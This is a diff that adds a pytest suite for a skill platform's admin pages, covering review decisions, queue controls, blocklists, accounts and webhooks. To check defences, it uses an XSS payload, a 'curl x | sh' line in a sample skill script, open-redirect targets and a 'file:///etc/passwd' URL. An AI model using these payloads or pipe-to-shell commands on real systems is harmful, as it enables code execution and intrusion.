@@ -1,0 +1,572 @@
+"""The admin area by real requests, without any script: every page shows what is true, every button does what the
+command line does, and nothing dangerous happens without a reason and a confirmation."""
+
+import html
+from typing import Any
+
+import msgspec
+import pytest
+
+from tests.support.envs import (
+    make_submission,
+    open_test_env,
+    put_record,
+    run_until_quiet,
+    skill_files,
+    submit_skill,
+)
+from tests.support.manual_clock import ManualClock
+from tests.support.people import browser, signed_in, told
+from vskill_platform.domain import keys
+from vskill_platform.domain.content import SkillFile, digest_of_files, pack
+from vskill_platform.domain.errors import StoreUnavailable
+from vskill_platform.domain.evidence import evidence_of
+from vskill_platform.domain.scan import (
+    Category,
+    Confirmation,
+    Finding,
+    JudgeReport,
+    JudgeStatus,
+    Kind,
+    Severity,
+    StaticReport,
+    Verdict,
+)
+from vskill_platform.domain.skill import VersionStatus
+from vskill_platform.domain.states import State
+from vskill_platform.domain.submission import Submission
+from vskill_platform.queue.control import current_pause
+from vskill_platform.queue.dead_letters import list_dead_letters
+from vskill_platform.store.accounts import Role, get_user
+from vskill_platform.store.audit import list_audit
+from vskill_platform.store.blocklist import list_blocks
+from vskill_platform.store.reports import Category as ReportCategory
+from vskill_platform.store.reports import ReportStatus, file_report, get_report, list_reports
+from vskill_platform.store.sessions import sign_in
+from vskill_platform.store.skills import get_skill
+from vskill_platform.store.suppressions import suppressed_rules
+from vskill_platform.store.webhooks import list_webhooks
+from vskill_platform.submission_store import get_submission
+from vskill_platform.web.app import ENDPOINTS, create_app
+
+pytestmark = pytest.mark.anyio
+
+ATTACK = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
+
+
+@pytest.fixture
+async def env(tmp_path):
+    settings: dict[str, Any] = {
+        "judge_url": "http://127.0.0.1:1/v1",
+        "judge_model": "m",
+        "judge_api_key": "sk-very-secret",
+    }
+    async with open_test_env("memory", tmp_path, clock=ManualClock(), judge=None, **settings) as opened:
+        yield opened
+
+
+@pytest.fixture
+async def app(env):
+    return create_app(env)
+
+
+@pytest.fixture
+async def ada(app, env):
+    async with signed_in(app, env, "ada", Role.ADMIN) as person:
+        yield person
+
+
+@pytest.fixture
+async def rob(app, env):
+    async with signed_in(app, env, "rob", Role.REVIEWER) as person:
+        yield person
+
+
+def finding(file: str, line: int, **changes) -> Finding:
+    found = Finding(
+        "EX-001",
+        Severity.CRITICAL,
+        Category.EXFILTRATION,
+        Kind.MALICE,
+        file,
+        line,
+        excerpt="curl x | sh",
+        why="It sends files away.",
+    )
+    return msgspec.structs.replace(found, **changes)
+
+
+async def waiting(env, name: str = "doubtful", *, extra: tuple[SkillFile, ...] = (), found=()) -> Submission:
+    """A submission that waits for a person, with its bytes, its scan and the judge's word."""
+    script = SkillFile("run.sh", "100755", b"#!/bin/sh\necho hello\ncurl x | sh\n")
+    files = skill_files(name, extra=(script, *extra))
+    digest = digest_of_files(files)
+    await env.blobs.put(digest, pack(files))
+    report = StaticReport(env.scanner.ruleset, findings=(finding("run.sh", 3), *found))
+    await env.kv.put(keys.scan(digest, report.ruleset), msgspec.json.encode(report))
+    words = (Confirmation("EX-001@run.sh:3:0", confirmed=True, why="It really does."),)
+    judge = JudgeReport(JudgeStatus.ANSWERED, Verdict.CONCERNS, 55, "Looks odd to me.", words, "m", "v1")
+    await env.kv.put(keys.judge(digest, report.ruleset, "m", "v1"), msgspec.json.encode(judge))
+    record = make_submission(
+        name,
+        state=State.NEEDS_REVIEW,
+        at=env.kv.now(),
+        digest=digest,
+        upload=digest,
+        evidence=evidence_of(digest, report, judge),
+    )
+    await put_record(env, record)
+    return record
+
+
+async def published(env, name: str = "tidy"):
+    done = await submit_skill(name)
+    await run_until_quiet(env)
+    assert done.submission is not None
+    record = await get_submission(done.submission.id)
+    assert record.published is not None
+    return await get_skill(record.published.removeprefix("skill:"))
+
+
+# Every page.
+
+PAGES = [
+    one.path
+    for one in ENDPOINTS
+    if one.path.startswith("/admin") and one.method == "GET" and "{" not in one.path
+]
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_every_page_works_on_an_empty_store_and_names_itself_once(ada, path):
+    page = await ada.get(path)
+    assert page.status_code == 200, page.text[:500]
+    assert page.headers["cache-control"] == "no-store"
+    assert page.text.count("<h1>") == 1
+    assert page.text.count('aria-current="page"') >= 1
+    assert " style=" not in page.text and "<script>" not in page.text and "javascript:" not in page.text
+
+
+async def test_a_reviewer_sees_the_areas_of_reviewers_only(rob):
+    page = (await rob.get("/admin")).text
+    for link in ("/admin/review", "/admin/reports", "/admin/blocklist", "/admin/suppressions"):
+        assert f'href="{link}"' in page
+    for link in ("/admin/accounts", "/admin/settings", "/admin/audit", "/admin/queue"):
+        assert f'href="{link}"' not in page
+
+
+async def test_the_front_page_tells_what_waits_and_what_is_wrong(env, ada):
+    await waiting(env)
+    broken = make_submission("broken", state=State.TIER1_SCANNING, at=0, next_attempt_at=None)
+    await put_record(env, broken)
+    page = (await ada.get("/admin")).text
+    assert "wait for a person" in page and f"sub:{broken.id}" in page
+
+
+# Review.
+
+
+async def test_the_evidence_stands_side_by_side(env, rob):
+    record = await waiting(
+        env, found=(finding("SKILL.md", 2, rule_id="CA-002", kind=Kind.CAPABILITY, severity=Severity.LOW),)
+    )
+    assert f"/admin/review/{record.id}" in (await rob.get("/admin/review")).text
+    page = html.unescape((await rob.get(f"/admin/review/{record.id}")).text)
+    for wanted in (
+        "EX-001",
+        "run.sh:3",
+        "It sends files away.",
+        "curl x | sh",
+        "Looks odd to me.",
+        "It really does.",
+        "made by a test",
+        record.digest or "",
+        "1 capability, which counts for nothing",
+        'id="L3"',
+    ):
+        assert wanted in page, wanted
+    other = html.unescape((await rob.get(f"/admin/review/{record.id}?file=SKILL.md")).text)
+    assert "A small skill called doubtful." in other
+
+
+async def test_the_evidence_shows_what_changed_since_the_live_version(env, rob):
+    skill = await published(env, "doubtful")
+    record = await waiting(env)
+    page = html.unescape((await rob.get(f"/admin/review/{record.id}")).text)
+    assert f"Changes since {skill.current_version}" in page
+    assert "+curl x | sh" in page and "added" in page
+
+
+async def test_hidden_characters_and_attacks_in_a_skill_are_shown_inert(env, ada):
+    hostile = SkillFile("a'b<c>.md", "100644", f"{ATTACK}\n\u202eevil\u200b\x1b[31m\n".encode())
+    marks = (finding("a'b<c>.md", 1, rule_id="EX-002", excerpt=ATTACK, why=ATTACK, severity=Severity.HIGH),)
+    record = await waiting(env, extra=(hostile,), found=marks)
+    await put_record(
+        env, msgspec.structs.replace(record, repo_url=f"https://x/{ATTACK}", submitter=ATTACK, commit=ATTACK)
+    )
+    for path in (f"/admin/review/{record.id}", "/admin/review", "/admin/bulk?state=NEEDS_REVIEW", "/admin"):
+        page = await ada.get(path)
+        assert page.status_code == 200
+        assert "<script>alert" not in page.text and "<img src=x" not in page.text
+    page = (await ada.get(f"/admin/review/{record.id}", params={"file": "a'b<c>.md"})).text
+    assert "&lt;U+202E&gt;evil&lt;U+200B&gt;&lt;U+001B&gt;[31m" in page
+    assert "<script>alert" not in page
+
+
+async def test_AC_a_reviewer_approves_the_bytes_and_they_are_published(env, rob):
+    record = await waiting(env)
+    text = await rob.do(f"/admin/review/{record.id}/approve", reason="read it all", digest=record.digest)
+    assert text == "doubtful is approved and will be published."
+    await run_until_quiet(env)
+    done = await get_submission(record.id)
+    assert done.state is State.PUBLISHED
+    approval = next(event for event in done.history if event.to is State.AUTO_APPROVED)
+    assert (approval.actor, approval.reason) == ("admin:rob", "read it all")
+    assert "approve" in [entry.action for entry in (await list_audit()).items]
+
+
+async def test_a_rejection_has_its_reason_in_the_history(env, rob):
+    record = await waiting(env)
+    await rob.do(f"/admin/review/{record.id}/reject", reason="it downloads and runs code")
+    done = await get_submission(record.id)
+    assert (done.state, done.history[-1].reason) == (State.REJECTED, "it downloads and runs code")
+
+
+@pytest.mark.parametrize("action", ["approve", "reject", "again"])
+async def test_E7_no_decision_without_a_reason(env, rob, action):
+    record = await waiting(env)
+    text = await rob.do(f"/admin/review/{record.id}/{action}", reason="  ", digest=record.digest)
+    assert "reason is needed" in text
+    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW
+
+
+async def test_D7_a_second_decision_is_refused_and_told(env, rob, ada):
+    record = await waiting(env)
+    await rob.do(f"/admin/review/{record.id}/reject", reason="no")
+    text = await ada.do(f"/admin/review/{record.id}/approve", reason="yes", digest=record.digest)
+    assert "REJECTED" in text
+    assert (await get_submission(record.id)).state is State.REJECTED
+
+
+async def test_only_the_bytes_that_were_looked_at_are_approved(env, rob):
+    record = await waiting(env)
+    text = await rob.do(f"/admin/review/{record.id}/approve", reason="yes", digest="0" * 64)
+    assert "no stored bytes" in text
+    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW
+
+
+async def test_a_refusal_leads_back_to_the_page_that_the_form_names_and_nowhere_else(env, rob):
+    record = await waiting(env)
+    here = f"/admin/review/{record.id}"
+    for back, place in ((here, here), ("https://evil.example", "/admin/review"), ("//evil", "/admin/review")):
+        answer = await rob.send(f"{here}/reject", reason="", back=back)
+        assert answer.headers["location"] == place
+
+
+async def test_a_rule_is_suppressed_for_this_content_and_counts_again(env, rob):
+    record = await waiting(env)
+    digest = str(record.digest)
+    await rob.do("/admin/suppressions/add", digest=digest, rule="EX-001", reason="an example")
+    assert await suppressed_rules(digest) == {"EX-001"}
+    assert "EX-001" in (await rob.get("/admin/suppressions")).text
+    assert "suppressed" in (await rob.get(f"/admin/review/{record.id}")).text
+    await rob.do("/admin/suppressions/remove", digest=digest, rule="EX-001", reason="no, it is real")
+    assert await suppressed_rules(digest) == frozenset()
+
+
+async def test_a_submission_whose_bytes_are_gone_still_has_its_page(env, rob):
+    record = await waiting(env)
+    await env.blobs.delete(str(record.digest))
+    page = await rob.get(f"/admin/review/{record.id}")
+    assert page.status_code == 200 and "not there any more" in page.text
+    bare = make_submission("bare", state=State.NEEDS_REVIEW)
+    await put_record(env, bare)
+    assert "Nothing was fetched" in (await rob.get(f"/admin/review/{bare.id}")).text
+
+
+# The queue.
+
+
+async def test_what_is_stuck_is_listed_and_requeued_one_by_one_and_all(env, ada):
+    record = make_submission("slow", at=env.kv.now())
+    await put_record(env, record)
+    env.clock.advance(env.settings.stuck_threshold_ms + 1000)
+    page = (await ada.get("/admin/queue")).text
+    assert "slow" in page and record.id in page
+    assert (await env.broker.depth()).ready == 0
+    assert "slow: run 1" in await ada.do("/admin/queue/requeue", submission=record.id, reason="look at it")
+    assert (await env.broker.depth()).ready == 1
+    other = make_submission("other", at=env.kv.now() - 1)
+    await put_record(env, other)
+    assert "1 messages were missing" in await ada.do("/admin/queue/requeue-all")
+    assert (await env.broker.depth()).ready == 2
+
+
+async def test_a_stuck_one_is_cancelled_only_with_a_confirmation(env, ada):
+    record = make_submission("slow", at=env.kv.now())
+    await put_record(env, record)
+    assert "tick the box" in await ada.do("/admin/queue/cancel", submission=record.id, reason="why")
+    assert (await get_submission(record.id)).state is State.RECEIVED
+    await ada.do("/admin/queue/cancel", submission=record.id, reason="why", confirm="yes")
+    assert (await get_submission(record.id)).state is State.DEQUEUED
+
+
+async def test_B3_a_pause_carries_its_end_and_can_be_ended(env, ada):
+    assert "paused for 5 minutes" in await ada.do("/admin/queue/pause", minutes="5", reason="maintenance")
+    pause = await current_pause()
+    assert pause is not None and (pause.until - pause.at, pause.by) == (300_000, "admin:ada")
+    assert "paused" in await ada.do("/admin/queue/requeue-all")
+    assert "goes on" in await ada.do("/admin/queue/resume")
+    assert await current_pause() is None
+    assert {"pause", "resume"} <= {entry.action for entry in (await list_audit()).items}
+
+
+@pytest.mark.parametrize("minutes", ["0", "-1", "x", "99999999", ""])
+async def test_a_pause_without_a_sensible_end_is_refused(env, ada, minutes):
+    await ada.do("/admin/queue/pause", minutes=minutes, reason="why")
+    assert await current_pause() is None
+
+
+async def dead_letter(env) -> int:
+    done = await submit_skill("letter")
+    assert done.submission is not None
+    (batch,) = await env.broker.receive(3, 0, 1)
+    await batch.messages[0].dead_letter("nobody can read this <b>")
+    return (await list_dead_letters())[0].id
+
+
+async def test_dead_letters_are_replayed_or_discarded(env, ada):
+    letter = await dead_letter(env)
+    page = (await ada.get("/admin/queue")).text
+    assert "nobody can read this &lt;b&gt;" in page
+    assert "tick the box" in await ada.do("/admin/queue/discard", letter=str(letter))
+    assert "Replayed" in await ada.do("/admin/queue/replay", letter=str(letter))
+    assert await list_dead_letters() == []
+    assert "no dead letter" in await ada.do("/admin/queue/replay", letter=str(letter))
+
+
+async def test_a_discarded_letter_is_gone(env, ada):
+    letter = await dead_letter(env)
+    assert "is gone" in await ada.do("/admin/queue/discard", letter=str(letter), confirm="yes")
+    assert await list_dead_letters() == []
+
+
+async def test_a_job_runs_now_and_its_success_is_shown(env, ada):
+    assert "has run" in await ada.do("/admin/jobs/run", job="recovery")
+    page = (await ada.get("/admin/jobs")).text
+    row = page.split("<code>recovery</code>")[1].split("</tr>")[0]
+    assert "Well" in row
+    assert "no job" in await ada.do("/admin/jobs/run", job="<x>")
+
+
+# Many at once.
+
+
+async def test_a_bulk_action_shows_what_it_would_do_changes_nothing_and_then_does_it(env, ada):
+    records = [await waiting(env, f"many-{number}") for number in range(3)]
+    await waiting(env, "other")
+    page = (await ada.get("/admin/bulk?state=NEEDS_REVIEW&place=many-&action=reject")).text
+    assert "3 would end as rejected" in page
+    assert {(await get_submission(one.id)).state for one in records} == {State.NEEDS_REVIEW}
+    form = {
+        "state": "NEEDS_REVIEW",
+        "place": "many-",
+        "why": "",
+        "hours": "0",
+        "action": "reject",
+        "reason": "spam",
+    }
+    assert "tick the box" in await ada.do("/admin/bulk", expected="3", **form)
+    assert "it would be 3 now, and was 4" in await ada.do("/admin/bulk", expected="4", confirm="yes", **form)
+    assert {(await get_submission(one.id)).state for one in records} == {State.NEEDS_REVIEW}
+    assert await ada.do("/admin/bulk", expected="3", confirm="yes", **form) == "Done to 3 submissions."
+    for one in records:
+        done = await get_submission(one.id)
+        assert (done.state, done.history[-1].reason) == (State.REJECTED, "spam")
+    assert "bulk reject" in [entry.action for entry in (await list_audit()).items]
+
+
+@pytest.mark.parametrize(
+    ("state", "action", "expected"),
+    [("REJECTED", "cancel", 0), ("REJECTED", "again", 1), ("NEEDS_REVIEW", "cancel", 1)],
+)
+async def test_a_bulk_action_counts_only_what_it_can_be_done_to(env, ada, state, action, expected):
+    await put_record(env, make_submission("one", state=State(state)))
+    page = (await ada.get(f"/admin/bulk?state={state}&action={action}")).text
+    assert f"{expected} would" in page
+
+
+async def test_E4_a_bulk_filter_that_does_not_exist_is_a_400(ada):
+    assert (await ada.get("/admin/bulk?stat=REJECTED")).status_code == 400
+    assert (await ada.get("/admin/bulk?state=active")).status_code == 400
+
+
+# Blocklist, reports, skills.
+
+
+async def test_a_block_needs_a_confirmation_takes_effect_and_is_lifted(env, rob):
+    skill = await published(env)
+    form = {"kind": "name", "target": "Tidy", "severity": "high", "reason": "steals"}
+    assert "tick the box" in await rob.do("/admin/blocklist/add", **form)
+    assert await list_blocks() == []
+    assert await rob.do("/admin/blocklist/add", confirm="yes", **form) == "Blocked: name tidy."
+    assert (await get_skill(skill.canonical)).current_version is None
+    (entry,) = await list_blocks()
+    assert entry.discovered_by == "admin:rob"
+    lifted = await rob.do(
+        "/admin/blocklist/lift", kind="name", value="tidy", reason="a mistake", confirm="yes"
+    )
+    assert "No longer blocked" in lifted
+    assert await list_blocks() == []
+    assert "no such entry" in await rob.do(
+        "/admin/blocklist/lift", kind="name", value="tidy", reason="x", confirm="yes"
+    )
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"), [("digest", "xyz"), ("place", "not an address"), ("name", " "), ("galaxy", "x")]
+)
+async def test_a_target_that_makes_no_sense_is_told(env, rob, kind, target):
+    text = await rob.do(
+        "/admin/blocklist/add", kind=kind, target=target, severity="high", reason="x", confirm="yes"
+    )
+    assert text and "Blocked" not in text
+    assert await list_blocks() == []
+
+
+async def test_reports_are_upheld_with_a_block_or_dismissed(env, rob):
+    skill = await published(env)
+    first = (
+        await file_report(skill.canonical, reporter="user:a", reason=ATTACK, category=ReportCategory.MALWARE)
+    ).report
+    second = (await file_report(skill.canonical, reporter="user:b", reason="dislike")).report
+    page = (await rob.get("/admin/reports")).text
+    assert "<script>alert" not in page and "dislike" in page
+    await rob.do(f"/admin/reports/{second.id}/dismiss", reason="nothing wrong")
+    assert (await get_report(second.id)).status is ReportStatus.DISMISSED
+    assert "tick the box" in await rob.do(f"/admin/reports/{first.id}/uphold", reason="true", block="place")
+    assert "is blocked" in await rob.do(
+        f"/admin/reports/{first.id}/uphold", reason="true", block="place", confirm="yes"
+    )
+    assert (await get_skill(skill.canonical)).current_version is None
+    assert (await list_reports()).items == ()
+    assert "upheld" in await rob.do(f"/admin/reports/{first.id}/dismiss", reason="again")
+    for status in ("upheld", "dismissed", "all"):
+        assert (await rob.get(f"/admin/reports?status={status}")).status_code == 200
+
+
+async def test_a_version_is_taken_down_and_restored(env, ada):
+    skill = await published(env)
+    form = {"skill": skill.canonical, "version": str(skill.current_version), "reason": "look into it"}
+    assert "tick the box" in await ada.do("/admin/skills/take-down", **form)
+    await ada.do("/admin/skills/take-down", confirm="yes", **form)
+    down = await get_skill(skill.canonical)
+    assert (down.versions[0].status, down.versions[0].by) == (VersionStatus.TAKEN_DOWN, "admin:ada")
+    assert "taken_down" in (await ada.get("/admin/skills?q=tidy")).text
+    await ada.do("/admin/skills/restore", **form)
+    assert (await get_skill(skill.canonical)).current_version == skill.current_version
+
+
+# Accounts and tokens.
+
+
+async def test_an_account_is_made_with_a_password_that_is_shown_once_and_works(env, ada):
+    answer = await ada.send("/admin/accounts", name="Rita", role="reviewer", reason="joined us")
+    assert answer.status_code == 201 and answer.headers["cache-control"] == "no-store"
+    password = html.unescape(answer.text.split('class="command__text">')[1].split("<")[0])
+    assert (await sign_in("rita", password, "192.0.2.1")).role is Role.REVIEWER
+    assert password not in (await ada.get("/admin/accounts")).text
+    assert "already" in await ada.do("/admin/accounts", name="rita", role="author", reason="again")
+
+
+async def test_roles_locks_and_passwords_are_changed_by_an_admin(env, ada, rob):
+    assert (
+        await ada.do("/admin/accounts/rob/role", role="author", reason="left the team")
+        == "rob is now author."
+    )
+    assert (await rob.get("/admin")).status_code == 403, "at once, not at the next sign-in"
+    assert "tick the box" in await ada.do("/admin/accounts/rob/disable", reason="why")
+    await ada.do("/admin/accounts/rob/disable", reason="why", confirm="yes")
+    assert (await get_user("rob")).disabled
+    assert (await rob.get("/account")).status_code == 303
+    await ada.do("/admin/accounts/rob/enable", reason="back")
+    answer = await ada.send("/admin/accounts/rob/password", reason="forgot it", confirm="yes")
+    assert answer.status_code == 201
+    assert "signed out" in await ada.do("/admin/accounts/rob/sign-out", confirm="yes")
+
+
+async def test_nobody_locks_themselves_out_or_removes_the_last_admin(ada):
+    assert "themselves" in await ada.do("/admin/accounts/ada/disable", reason="oops", confirm="yes")
+    assert "only admin" in await ada.do("/admin/accounts/ada/role", role="author", reason="oops")
+    assert "no account" in await ada.do("/admin/accounts/nobody/role", role="author", reason="x")
+
+
+async def test_an_admin_revokes_anybodys_token(env, ada, rob):
+    await rob.send("/account/tokens", name="laptop", scopes="read", days="5")
+    page = (await ada.get("/admin/tokens")).text
+    assert "laptop" in page and "vsk_" not in page
+    token = page.split('name="token" value="')[1].split('"')[0]
+    assert "revoked" in await ada.do("/admin/tokens/revoke", account="rob", token=token, reason="leaked")
+    assert (await get_user("rob")).tokens == ()
+
+
+# The installation.
+
+
+async def test_a_webhooks_secret_is_shown_once(env, ada):
+    answer = await ada.send(
+        "/admin/webhooks/add", url="https://hooks.example.org/x", events=["skill.published"]
+    )
+    (hook,) = await list_webhooks()
+    assert answer.status_code == 201 and hook.secret in html.unescape(answer.text)
+    assert hook.events == ("skill.published",)
+    page = await ada.get("/admin/webhooks")
+    assert hook.secret not in html.unescape(page.text)
+    assert "not an address" in await ada.do(
+        "/admin/webhooks/add", url="file:///etc/passwd", events="skill.published"
+    )
+    assert "No event" in await ada.do("/admin/webhooks/add", url="https://a.example", events="none")
+    await ada.do("/admin/webhooks/remove", webhook=hook.id, confirm="yes")
+    assert await list_webhooks() == []
+
+
+async def test_settings_are_shown_without_their_secrets(ada):
+    page = (await ada.get("/admin/settings")).text
+    assert "VSKILL_JUDGE_API_KEY" in page and "set, and not shown" in page
+    assert "sk-very-secret" not in page
+
+
+async def test_the_audit_is_paged_to_its_end(env, ada):
+    for _ in range(60):
+        env.clock.advance(1000)
+        await ada.send("/admin/queue/resume")
+    first = (await ada.get("/admin/audit")).text
+    following = html.unescape(first.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0])
+    second = (await ada.get(following)).text
+    assert first.count('<td data-label="Who">') == 50
+    assert second.count('<td data-label="Who">') >= 11
+    assert 'rel="next"' not in second
+    assert (await ada.get("/admin/audit?before=xyz")).status_code == 400
+
+
+async def test_a_message_is_told_once(env, ada):
+    answer = await ada.send("/admin/queue/resume")
+    page = await ada.get(answer.headers["location"])
+    assert told(page.text)
+    assert 'role="status"><div class="notice' not in (await ada.get("/admin/queue")).text
+
+
+async def test_C4_a_store_that_is_away_is_said_and_never_shown_as_nothing(env, app, ada, monkeypatch):
+    async def away(prefix: str, field: str):
+        raise StoreUnavailable
+
+    monkeypatch.setattr(env.kv, "count_by", away)
+    answer = await ada.get("/admin")
+    assert answer.status_code == 503 and "retry-after" in answer.headers
+
+
+async def test_a_visitor_is_led_to_the_sign_in_page_from_every_page(app):
+    async with browser(app) as client:
+        for path in PAGES:
+            answer = await client.get(path, headers={"accept": "text/html"})
+            assert (answer.status_code, answer.headers["location"]) == (303, f"/signin?next={path}")
